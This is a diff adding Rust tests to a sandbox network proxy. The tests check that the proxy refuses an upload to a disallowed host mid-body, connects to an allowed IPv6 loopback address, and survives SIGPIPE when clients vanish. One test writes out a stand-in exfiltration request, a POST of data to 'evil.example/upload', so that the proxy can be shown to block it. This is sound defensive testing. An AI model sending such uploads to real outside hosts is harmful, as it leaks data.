@@ -699,3 +699,111 @@ fn the_audit_log_records_allowed_and_refused_connections() {
     let f = find("failed");
     assert!(f["error"].as_str().unwrap().contains("HTTP/1.1"), "{f}");
 }
+
+#[test]
+fn a_refusal_reaches_a_client_still_sending_its_body() {
+    let p = start(Proxy::new(policy(&["*.example.test"], &[])).config(fast()));
+    let mut s = connect(p);
+    let body = vec![b'x'; 200_000];
+    s.write_all(
+        format!(
+            "POST http://evil.example/upload HTTP/1.1\r\nContent-Length: {}\r\n\r\n",
+            body.len()
+        )
+        .as_bytes(),
+    )
+    .unwrap();
+    // The proxy answers after the head; the body is still arriving. Written from a
+    // thread, as a client would while it also reads.
+    let mut w = s.try_clone().unwrap();
+    let writer = std::thread::spawn(move || {
+        let _ = w.write_all(&body);
+    });
+    let mut r = BufReader::new(s);
+    let head = read_head_lines(&mut r);
+    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
+    let mut line = String::new();
+    r.read_line(&mut line).unwrap();
+    assert!(
+        line.starts_with("csbox: blocked connection to evil.example:80"),
+        "{line}"
+    );
+    writer.join().unwrap();
+}
+
+#[test]
+fn connect_to_ipv6_loopback_named_exactly() {
+    let Ok(l) = TcpListener::bind("[::1]:0") else {
+        return; // no IPv6 here
+    };
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        if let Ok((mut c, _)) = l.accept() {
+            let _ = c.write_all(b"v6");
+        }
+    });
+    let p = start(Proxy::new(policy(&[&format!("[::1]:{port}")], &[])).config(fast()));
+    let (head, r) = ask(p, &connect_req(&format!("[::1]:{port}")));
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    assert_eq!(body(r), "v6");
+}
+
+/// The body of `a_vanishing_client_does_not_raise_sigpipe`, run in a child process so it
+/// can restore SIGPIPE's default action (death) without touching other tests.
+#[test]
+#[ignore]
+fn sigpipe_child() {
+    if std::env::var_os("CSBOX_NET_SIGPIPE_CHILD").is_none() {
+        return;
+    }
+    // SAFETY: the child runs this test alone.
+    unsafe { libc::signal(libc::SIGPIPE, libc::SIG_DFL) };
+    // A server that streams until the peer is gone.
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for mut c in l.incoming().flatten() {
+            std::thread::spawn(move || {
+                let chunk = vec![0u8; 65536];
+                while c.write_all(&chunk).is_ok() {}
+            });
+        }
+    });
+    let p = start(Proxy::new(policy(&[&format!("127.0.0.1:{port}")], &[])).config(fast()));
+    for _ in 0..20 {
+        let (head, mut r) = ask(p, &connect_req(&format!("127.0.0.1:{port}")));
+        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+        let mut buf = [0u8; 1000];
+        r.read_exact(&mut buf).unwrap();
+        // A FIN first (the proxy's socket goes to CLOSE_WAIT), then close with unread
+        // data: the reset that follows makes the proxy's next splice into the socket fail
+        // with EPIPE, which is when the kernel raises SIGPIPE (tcp_reset in CLOSE_WAIT).
+        r.get_mut().shutdown(Shutdown::Write).unwrap();
+        std::thread::sleep(Duration::from_millis(20));
+        drop(r);
+    }
+    std::thread::sleep(Duration::from_millis(300));
+    println!("SIGPIPE-CHILD-SURVIVED");
+}
+
+#[test]
+fn a_vanishing_client_does_not_raise_sigpipe() {
+    let out = std::process::Command::new(std::env::current_exe().unwrap())
+        .args([
+            "--ignored",
+            "--exact",
+            "net::proxy::tests::sigpipe_child",
+            "--nocapture",
+            "--test-threads=1",
+        ])
+        .env("CSBOX_NET_SIGPIPE_CHILD", "1")
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success() && stdout.contains("SIGPIPE-CHILD-SURVIVED"),
+        "{:?}\n{stdout}\n{}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
